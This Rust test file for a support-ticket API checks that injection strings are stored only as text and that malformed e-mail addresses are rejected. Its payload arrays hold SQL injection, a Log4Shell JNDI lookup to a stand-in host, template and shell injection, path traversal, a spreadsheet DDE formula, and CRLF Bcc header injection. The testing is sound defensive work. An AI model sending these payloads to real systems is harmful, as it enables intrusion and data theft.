//! Rows 37 and 38: texts that mean something to other programs, and addresses that are none.

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};
use sqlx::PgPool;

use super::{Case, Want};
use crate::{harness::TestApp, http::request};

const JSON: (&str, &str) = ("Content-Type", "application/json");

/// What a database, a template, a shell or a formatter would act on.
const CODE: [&str; 12] = [
    "'); drop table support.messages; --",
    "' or '1'='1",
    "\\'; select pg_sleep(60); --",
    "$1 $2 :name ?",
    "$$; drop schema support cascade; $$",
    "${jndi:ldap://evil.example/a}",
    "${7*7} {{7*7}} #{7*7} <%= 7*7 %>",
    "{code} {company} {subject} {paragraphs}",
    "%s%s%n %d %x",
    "`id` $(id) ; id | id & id",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
];

const NO_ADDRESSES: [&str; 28] = [
    "",
    " ",
    "@",
    "ada",
    "ada@",
    "@example.com",
    "ada@example",
    "a@localhost",
    "a@[127.0.0.1]",
    "ada@example.com\r\nBcc: eve@example.com",
    "ada@example.com\nBcc:eve@example.com",
    "ada@example.com%0aBcc:eve@example.com",
    "ada\r@example.com",
    " ada@example.com",
    "ada@example.com ",
    "ada @example.com",
    "\"a b\"@example.com",
    "<ada@example.com>",
    "Ada <ada@example.com>",
    "ada@example.com,eve@example.com",
    "ada@example.com;eve@example.com",
    "ada@eve@example.com",
    "ada@example..com",
    "ada@-example.com",
    "ada@.example.com",
    "ada@exa_mple.com",
    "\u{202e}ada@example.com",
    "ada\u{200b}@example.com",
];

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for text in CODE {
        cases.push(case(37, text, "/api/support/public", &json!({ "message": text }), Want::Kept(text.to_owned())));
    }
    let escalate = |email: &str, want| {
        case(38, email, "/api/support/escalate", &json!({ "email": email, "message": "help" }), want)
    };
    cases.extend(NO_ADDRESSES.map(|email| escalate(email, Want::Unfit("email"))));
    cases.push(escalate(&long(255), Want::Unfit("email")));
    cases.push(escalate(&format!("{}@example.com", "a".repeat(65)), Want::Unfit("email")));
    cases.push(escalate(&format!("ada@{}.com", "a".repeat(64)), Want::Unfit("email")));
    for email in
        [&long(254), "ada+desk@example.com", "o'hara@example.com", "用户@例え.example", "a@xn--mller-kva.example"]
    {
        cases.push(escalate(email, Want::Fine));
    }
    cases
}

fn case(row: u8, name: &str, path: &str, body: &Value, want: Want) -> Case {
    Case { row, name: format!("{name:?}"), bytes: request("POST", path, &[JSON], body.to_string().as_bytes()), want }
}

/// An address of so many bytes.
fn long(length: usize) -> String {
    let (local, label) = ("a".repeat(64), "b".repeat(63));
    let start = format!("{local}@{label}.{label}.");
    let rest = length - start.len() - ".com".len();
    format!("{start}{}.com", "c".repeat(rest))
}

/// Row 37.
#[sqlx::test(migrator = "levqor_support::MIGRATOR")]
async fn code_in_every_field_of_a_ticket_is_only_text(db: PgPool) {
    let app = TestApp::new(db).await;

    for text in CODE {
        let context = json!({ "source": text, text: [text] });
        let body = json!({ "email": "ada@example.com", "message": text, "context": context });
        let answer = app.post("/api/support/escalate", &body).await;
        assert_eq!(answer.status, 200, "{text}: {}", answer.body);

        let code = answer.json()["ticketId"].clone();
        let resolution = json!({ "resolution": text });
        app.admin_post(&format!("/api/support/tickets/{}/close", code.as_str().unwrap()), &resolution).await;
        let ticket = app.ticket(code.as_str().unwrap()).await;
        assert_eq!((&ticket["message"], &ticket["context"]), (&json!(text), &context));
        assert_eq!((&ticket["resolution"], &ticket["status"]), (&json!(text), &json!("closed")));
    }
}

/// Row 38. That an address is kept as it was typed, and compared in lower case, is told by the
/// stories of escalations.
#[sqlx::test(migrator = "levqor_support::MIGRATOR")]
async fn addresses_that_only_look_alike_are_different_people(db: PgPool) {
    let app = TestApp::new(db).await;
    let alike =
        ["ada@example.com", "\u{430}da@example.com", "ada@ex\u{430}mple.com", "ada+x@example.com", "a.da@example.com"];

    for email in alike {
        let body = json!({ "email": email, "message": "the same words" });
        assert_eq!(app.post("/api/support/escalate", &body).await.status, 200, "{email}");
    }

    for email in alike {
        let query = utf8_percent_encode(email, NON_ALPHANUMERIC);
        let page = app.admin_get(&format!("/api/support/tickets?email={query}")).await.json();
        assert_eq!((&page["count"], &page["tickets"][0]["email"]), (&json!(1), &json!(email)));
    }
}
